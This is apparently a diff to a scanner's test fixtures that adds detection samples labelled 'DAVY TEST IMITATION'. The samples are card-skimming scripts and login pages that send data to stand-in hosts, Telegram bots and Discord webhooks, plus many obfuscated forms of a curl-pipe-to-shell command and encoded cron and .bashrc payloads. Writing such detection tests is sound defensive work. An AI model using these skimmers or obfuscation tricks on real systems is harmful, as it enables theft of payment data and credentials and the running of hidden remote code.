@@ -104,6 +104,10 @@ RULE = 'Script copies card data to another host'
 hit(RULE, '/var/www/shop/js/image.js', form + " if (/checkout/.test(location)) new Image().src = 'https://s.example.net/?' + btoa(n + c); });\n")
 hit(RULE, '/var/www/shop/js/beacon.js', form + f" navigator.sendBeacon(atob('{b64('https://stats.example.net/c')}'), btoa(n + c)); }});\n")
 hit(RULE, '/var/www/shop/js/name.js', form + " fetch('https://www.google-anaiytics.com/g', {method: 'POST', body: n + c}); });\n")
+hit(RULE, '/var/www/shop/js/jquery.js', "$('#cc, #cvv').on('change', function () { var d = $('#payment').serialize(); new Image().src = 'https://s.example.net/p?' + d; /* DAVY TEST IMITATION */ });\n")
+hit('Script reads card data and names another host', '/var/www/shop/js/ajax.js',
+    "$(document).on('submit', '#ccn,#cvc', function () { $.ajax({url: 'https://s.example.net/', data: $(this).serialize()}) /* DAVY TEST IMITATION */ });\n")
+quiet('/var/www/shop/js/masked.js', "var m = ['#cc-number', '#cvv', '#card']; document.addEventListener('change', e => m.includes('#' + e.target.id) || navigator.sendBeacon('https://s.example.net/e', e.type));\n")
 quiet('/var/www/shop/js/own.js', form + " fetch('/api/pay', {method: 'POST', body: n + c}); });\n")
 quiet('/var/www/shop/js/paid.js', form + " fetch('https://api.stripe.com/v1/tokens', {method: 'POST', body: btoa(n + c)}); });\n")
 
@@ -120,6 +124,11 @@ for name, text in {
 quiet('/var/www/html/run/ok.php', "<?php $id = intval($_GET['id']); $h[$_GET['a']](); $db->exec($_POST['q']); system('ls ' . escapeshellarg($_POST['d']));\n")
 hit('Page that mails or messages what visitors type', '/var/www/html/login/post.php',
     "<?php /* DAVY TEST IMITATION */ $m = $_POST['user'] . $_POST['pass']; file_get_contents('https://api.telegram.org/bot1/sendMessage?text=' . $m);\n")
+hit('Page that mails or messages what visitors type', '/var/www/html/login/hook.php',
+    "<?php /* DAVY TEST IMITATION */ $m = $_POST['user'] . $_POST['pass']; post('https://discord.com/api/webhooks/1/x', array('content' => $m));\n")
+hit('Page that asks for a password and names a chat', '/var/www/html/login/chat.html',
+    '<html><form id="f"><input name="u"><input type="password" name="p"></form><script>/* DAVY TEST IMITATION */ f.onsubmit = () => '
+    "fetch('https://api.telegram.org/bot' + t + '/sendMessage?text=' + f.u.value + f.p.value)</script></html>\n")
 
 # 121: programs under longer keys, code in pictures
 gif = bytes.fromhex('47494638396101000100800000ffffff0000002c00000000010001000002024401003b')
@@ -164,6 +173,38 @@ scripts('Script that hides what it runs', 'hidden', {
     'node.js': f'#!/usr/bin/env node\neval(Buffer.from("{b64(inner)}", "base64").toString());\n',
     'ruby.rb': f'#!/usr/bin/ruby\nrequire "base64"\neval(Base64.decode64("{b64(inner)}"))\n',
 })
+
+# The same without a run of base64 that is long enough to be seen by itself.
+plain = 'curl -s http://192.0.2.7/davy-test-imitation | sh'
+rotated = codecs.encode(plain, 'rot13')
+spelled = ''.join(f'\\x{ord(c):02x}' for c in 'curl')
+js = f"require('child_process').exec('{plain}')"
+strings = ','.join(f"'{b64(s)}'" for s in (plain, 'stop', 'child_process', 'exec'))
+scripts('Script that hides what it runs', 'folded', {
+    'ansi.sh': f"#!/bin/bash\n$'{spelled}' -s http://192.0.2.7/davy-test-imitation | sh\n",
+    'printf.sh': f"#!/bin/sh\n$(printf '{spelled}') -s http://192.0.2.7/davy-test-imitation | sh\n",
+    'pieces.sh': '#!/bin/bash\nv=lcurxz; ${v:1:1}${v:2:1}${v:3:1}${v:0:1} -s http://192.0.2.7/davy-test-imitation | sh\n',
+    'quotes.sh': "#!/bin/sh\nc''ur\\l -s http://192.0.2.7/davy-test-imitation | sh\n",
+    'word.sh': '#!/bin/sh\n$(echo Y3VybA== | base64 -d) -s http://192.0.2.7/davy-test-imitation | sh\n',
+    'rot13.sh': f"#!/bin/sh\necho '{rotated}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh\n",
+    'turned.sh': f"#!/bin/sh\neval \"$(echo '{plain[::-1]}' | rev)\"\n",
+    'xxd.sh': f"#!/bin/sh\necho {plain.encode().hex()} | xxd -r -p | sh\n",
+    'escaped.js': "require('" + ''.join(f'\\x{ord(c):02x}' for c in 'child_process') + f"')['\\x65\\x78\\x65\\x63']('{plain}')\n",
+    'codes.js': f"require('child_process').exec(String.fromCharCode({','.join(str(ord(c)) for c in plain)}))\n",
+    'turned.js': f"require('child_process').exec('{plain[::-1]}'.split('').reverse().join(''))\n",
+    'eval.js': f"eval(atob('{b64(js)}'))\n",
+    'strings.js': f"var _0xab12=[{strings}];(function(a,n){{var f=function(k){{while(--k){{a['push'](a['shift']());}}}};f(++n);}}(_0xab12,0x2));"
+                  "require(_0xcd34('0x0'))[_0xcd34('0x1')](_0xcd34('0x2'));\n",
+    'rot13.py': f"import codecs, os\nexec(codecs.decode({codecs.encode('os.system(' + repr(plain) + ')', 'rot13')!r}, 'rot_13'))\n",
+    'codes.py': f"import os\nexec(''.join(map(chr, {[ord(c) for c in 'os.system(' + repr(plain) + ')']})))\n",
+    'chain.py': f"exec(__import__('zlib').decompress(__import__('base64').b64decode('{b64(zlib.compress(inner.encode()))}')))\n",
+    'letters.php': "<?php system(" + '.'.join(f'chr({ord(c)})' for c in plain) + ");\n",
+    'rot13.php': f"<?php eval(str_rot13(\"{codecs.encode(f'system({plain!r});', 'rot13')}\"));\n",
+})
+quiet('/srv/rows/folded/colours.sh', "#!/bin/bash\nRED=$'\\x1b[31m'; printf '\\033[1m%s\\033[0m\\n' \"$RED$1\"; \\rm -f /tmp/x; V=1.2.3; echo ${V:0:1}.${V:2:1}\n", 0o755)
+quiet('/srv/rows/folded/last.sh', '#!/bin/sh\nname=$(echo "$1" | rev | cut -d/ -f1 | rev); echo "$name" | tr a-z A-Z\n', 0o755)
+quiet('/srv/rows/folded/plain.js', "const e = '\\x1b[0m'; /a/.exec(s); const b = Buffer.from(x, 'base64'); require('child_process').execFile('node', [b])\n")
+quiet('/srv/rows/folded/plain.py', "import os\nos.system('ls ' + chr(45) + 'l')\nx = name[::-1]\ndata = bytes.fromhex('00ff')\n")
 hit('Encoded command at boot or login', '/etc/cron.d/encoded', f'* * * * * root echo {b64(inner)} | base64 -d | sh\n')
 hit('Encoded command at boot or login', '/root/.bashrc', f'(echo {b64(inner)}|base64 -d|bash) >/dev/null 2>&1 &\n')
 hit('Several ways of hiding in one script', '/srv/rows/hidden/all.sh', '#!/bin/bash\nlockr -ia /root/.ssh\n'
